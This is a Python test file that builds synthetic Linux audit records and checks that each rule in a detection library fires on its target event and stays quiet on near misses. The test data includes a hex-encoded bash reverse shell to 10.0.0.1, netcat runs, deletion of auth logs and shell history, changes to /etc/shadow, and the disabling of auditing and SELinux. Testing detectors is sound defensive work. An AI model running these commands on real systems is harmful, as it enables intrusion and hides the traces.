#!/usr/bin/env python3
"""linux_audit_test.py SYSREEL RULES : every rule of rules/library/linux_audit.yaml fires on an event made for it and
stays quiet on near misses of that event.

A case is a rule, the records of the event that it must fire on, and replacements in their text that must silence it.
"""
import json
import pathlib
import subprocess
import sys
import tempfile

STAMP = 'msg=audit({time}.000:{serial}):'


def call(number, exe, *records, success='yes', auid=1000, **arguments):
    """The records of a system call of x86-64."""
    comm = exe.rpartition('/')[2]
    given = ''.join(f' {name}={value}' for name, value in arguments.items())
    first = (f'type=SYSCALL {STAMP} arch=c000003e syscall={number} success={success} exit=0{given} items=1 ppid=1 pid=2 '
             f'auid={auid} uid=0 ses=3 comm="{comm}" exe="{exe}" key=(null)')
    return '\n'.join([first, *(record.replace(' ', f' {STAMP} ', 1) for record in records), f'type=EOE {STAMP}'])


def executed(exe, *arguments):
    texts = ''.join(f' a{i}={text}' for i, text in enumerate(arguments))
    return call(59, exe, f'type=EXECVE argc={len(arguments)}{texts}', 'type=CWD cwd="/"')


def said(kind, text, auid=1000):
    return f"type={kind} {STAMP} pid=7 uid=0 auid={auid} ses=3 msg='{text}'"


def hexadecimal(text):
    return text.encode().hex().upper()


FAILED = ('success=yes', 'success=no')
REFUSED = ('res=success', 'res=failed')
SERVICE = ('auid=1000', 'auid=4294967295')
SOCKET = hexadecimal('import socket,os;s=socket.socket()')

CASES = [
    ('Audit program run from a folder for temporary files', executed('/tmp/x', '"x"'),
     [FAILED, ('exe="/tmp/x"', 'exe="/opt/tmp/x"'), ('type=EXECVE', 'type=OTHER')]),
    ('Audit program run from a folder for temporary files', executed('/dev/shm/x', '"x"'), [('/dev/shm/', '/dev/')]),
    ('Audit interpreter given a program that opens a socket', executed('/usr/bin/python3', '"python3"', '"-c"', SOCKET),
     [FAILED, ('"-c"', '"-m"'), (SOCKET, hexadecimal('print( 1 )'))]),
    ('Audit interpreter given a program that opens a socket',
     executed('/usr/bin/bash', '"bash"', '"-c"', hexadecimal('bash -i >& /dev/tcp/10.0.0.1/1 0>&1')), []),
    ('Audit network relay run', executed('/usr/bin/nc.openbsd', '"nc"'), [FAILED, ('comm="nc.openbsd"', 'comm="ls"')]),
    ('Audit account file changed', call(82, '/usr/bin/mv', 'type=PATH item=0 name="/etc/shadow" nametype=DELETE'),
     [FAILED, ('/etc/shadow', '/etc/hosts'), ('syscall=82', 'syscall=0'), ('/usr/bin/mv', '/usr/sbin/useradd')]),
    ('Audit log or shell history removed', call(263, '/usr/bin/rm', 'type=PATH item=0 name="/var/log/auth.log" nametype=DELETE'),
     [FAILED, SERVICE, ('DELETE', 'NORMAL'), ('/var/log/', '/srv/')]),
    ('Audit log or shell history removed',
     call(87, '/usr/bin/rm', 'type=PATH item=0 name="/root/.bash_history" nametype=DELETE'), [('_history', '_file')]),
    ('Audit kernel module loaded', call(313, '/tmp/loader', 'type=KERN_MODULE name="rk"'),
     [FAILED, ('syscall=313', 'syscall=1'), ('/tmp/loader', '/usr/bin/kmod')]),
    ('Audit process attached to another', call(101, '/usr/bin/gdb', 'type=OBJ_PID opid=9 ocomm="sshd"', a0='4206'),
     [FAILED, ('a0=4206', 'a0=0'), ('syscall=101', 'syscall=1')]),
    ('Audit login failed', said('USER_LOGIN', 'op=login acct="eve" exe="/usr/sbin/sshd" addr=10.0.0.9 res=failed'),
     [('res=failed', 'res=success'), ('USER_LOGIN', 'USER_ACCT')]),
    ('Audit root logged in over the network',
     said('USER_LOGIN', 'op=login id=0 exe="/usr/sbin/sshd" addr=10.0.0.9 terminal=ssh res=success'),
     [REFUSED, ('id=0', 'id=1000'), ('10.0.0.9', '127.0.0.1'), ('10.0.0.9', '?')]),
    ('Audit root logged in over the network', said('USER_LOGIN', 'op=login acct="root" addr=10.0.0.9 res=success'),
     [('"root"', '"bob"')]),
    ('Audit root shell by sudo', said('USER_CMD', f'cwd="/" cmd={hexadecimal("/bin/bash")} terminal=pts/0 res=success'),
     [REFUSED, (hexadecimal('/bin/bash'), hexadecimal('/bin/ls'))]),
    ('Audit account created', said('ADD_USER', 'op=add-user id=1001 exe="/usr/sbin/useradd" res=success'),
     [REFUSED, ('ADD_USER', 'ADD_GROUP')]),
    ('Audit switched off or its rules removed', f'type=CONFIG_CHANGE {STAMP} audit_enabled=0 old=1 auid=1000 ses=3 res=1',
     [('enabled=0', 'enabled=1'), ('res=1', 'res=0')]),
    ('Audit switched off or its rules removed', f'type=CONFIG_CHANGE {STAMP} auid=1000 ses=3 op=remove_rule key="k" res=1',
     [('remove_rule', 'add_rule')]),
    ('Audit switched off or its rules removed', f'type=DAEMON_END {STAMP} op=terminate auid=0 res=success',
     [('DAEMON_END', 'DAEMON_START')]),
    ('Audit enforcement of SELinux switched off', f'type=MAC_STATUS {STAMP} enforcing=0 old_enforcing=1 auid=1000 ses=3',
     [('enforcing=0', 'enforcing=1'), ('old_enforcing=1', 'old_enforcing=0')]),
    ('Audit network card listens to everything',
     f'type=ANOM_PROMISCUOUS {STAMP} dev=eth0 prom=256 old_prom=0 auid=1000 uid=0 gid=0 ses=3',
     [SERVICE, ('prom=256', 'prom=0')]),
]


def main():
    sysreel, rules = pathlib.Path(sys.argv[1]).resolve(), pathlib.Path(sys.argv[2]) / 'linux_audit.yaml'
    events, expected, problems = [], [], []  # expected: (rule, fires, what was changed)
    for name, records, changes in CASES:
        events.append(records)
        expected.append((name, True, 'as made'))
        for old, new in changes:
            if old not in records:
                problems.append(f'{name}: nothing to change: {old}')
            events.append(records.replace(old, new))
            expected.append((name, False, f'{old} -> {new}'))
    with tempfile.TemporaryDirectory() as folder:
        log = pathlib.Path(folder) / 'audit.log'
        log.write_text(''.join(records.format(time=1700000000 + number, serial=number) + '\n'
                               for number, records in enumerate(events, 1)), encoding='utf-8')
        command = [sysreel, 'replay', log, '--matching', 'all', '-o', 'json', '-r', rules]
        result = subprocess.run(command, capture_output=True, text=True, check=False)
    if result.returncode or any('linux_audit.yaml:' in line for line in result.stderr.splitlines()):
        problems.append(result.stderr)
    fired = {}
    for alert in map(json.loads, result.stdout.splitlines()):
        fired.setdefault(alert['sysreel']['event'], set()).add(alert['rule'])
        if alert['source'] != 'linux_audit':
            problems.append(f'{alert["rule"]}: source {alert["source"]}')
    for number, (name, fires, why) in enumerate(expected, 1):
        if (name in fired.get(number, set())) != fires:
            problems.append(f'{name}: {"does not fire" if fires else "fires"}, {why}')
    lines = rules.read_text(encoding='utf-8').splitlines()
    names = {line.removeprefix('- rule: ') for line in lines if line.startswith('- rule: ')}
    problems += [f'{name}: no case' for name in sorted(names - {name for name, _, _ in CASES})]
    print('\n'.join(problems + [f'{len(expected)} events, {len(CASES)} cases, {len(problems)} problems']))
    return 1 if problems else 0


if __name__ == '__main__':
    sys.exit(main())
